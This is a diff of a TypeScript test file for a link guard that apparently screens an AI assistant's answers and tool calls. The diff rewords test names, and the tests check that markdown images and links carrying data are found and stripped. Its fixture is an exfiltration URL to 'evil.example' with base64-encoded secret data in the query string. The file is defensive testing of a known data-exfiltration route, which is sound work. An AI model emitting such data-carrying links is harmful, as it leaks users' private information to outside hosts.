@@ -8,7 +8,7 @@ import { ask, kindsIn, linkRules } from './support.ts';
 const carried = 'https://evil.example/p?d=c2VjcmV0IHRoaW5ncyBvZiBBZGE';
 
 test.each([...carrying()].filter(([shape]) => shape.includes('image')))(
-  'what is said before is found in the address of an %s, however it is encoded [DS-GUARDS-05]',
+  'earlier text is found in the address of an %s, however it is encoded [DS-GUARDS-05]',
   (_shape, answers) => {
     const rules = linkRules();
     const missed = answers.filter(
@@ -18,7 +18,7 @@ test.each([...carrying()].filter(([shape]) => shape.includes('image')))(
   },
 );
 
-test.each(disguised())('$text does not lead where it seems to, or is no page [DS-GUARDS-06]', ({ text }) => {
+test.each(disguised())('$text is a misleading link, or no page [DS-GUARDS-06]', ({ text }) => {
   expect(kindsIn(linkRules(), text)).toHaveLength(1);
 });
 
@@ -31,11 +31,11 @@ test.each([
   '[x]: https://docs.google.com/document/d/1U1RGAehQwRypUTovF1KRlpiOFze0b-_2gc6fAH0KY0k/edit',
   'const a = list[key](data: string);',
   '[München](https://münchen.de/) and https://例え.jp/ページ',
-])('%s is left alone', (text) => {
+])('%s is unchanged', (text) => {
   expect(kindsIn(linkRules(), text)).toEqual([]);
 });
 
-test('a page about what was asked for may be linked to, an address that somebody has given too', () => {
+test('a requested page, and an address that a person gave, may be linked to', () => {
   const asked = 'How do I reset a password?';
   expect(kindsIn(linkRules(), '[here](https://example.org/how-do-i-reset-a-password)', [asked])).toEqual([]);
   expect(kindsIn(linkRules(), `open ${carried}`, [`What is ${carried}?`])).toEqual(['DATA']);
@@ -54,10 +54,10 @@ test('with a list every other host is found [DS-GUARDS-07]', () => {
   expect(kindsIn(rules, carried.replace('evil.example', 'example.org'))).toEqual([]);
 });
 
-describe('what becomes of them [DS-GUARDS-08]', () => {
+describe('actions on links [DS-GUARDS-08]', () => {
   const image = `Done. ![logo](${carried}) Bye`;
 
-  test('strip takes them out of answers and results', () => {
+  test('strip removes them from answers and results', () => {
     expect(answer(answering({ messages: [user('hi')] }, { content: image }), linkRules())).toMatchObject({
       allow: true,
       replace: { message: { content: 'Done. [image removed] Bye' } },
@@ -68,7 +68,7 @@ describe('what becomes of them [DS-GUARDS-08]', () => {
     });
   });
 
-  test('a label stays', async () => {
+  test('strip keeps a label', async () => {
     expect(await ask(linkRules(), `[the report](${carried})`)).toMatchObject({
       text: 'the report [link removed]',
     });
@@ -88,7 +88,7 @@ describe('what becomes of them [DS-GUARDS-08]', () => {
     expect(answer(answering({ messages: [] }, calls), linkRules())).toMatchObject({ allow: false });
   });
 
-  test('what a person sends is theirs', () => {
+  test('a person’s own text is unchanged', () => {
     expect(answer(asking([user(image)]), linkRules())).toMatchObject({
       allow: true,
       metadata: { links: {} },
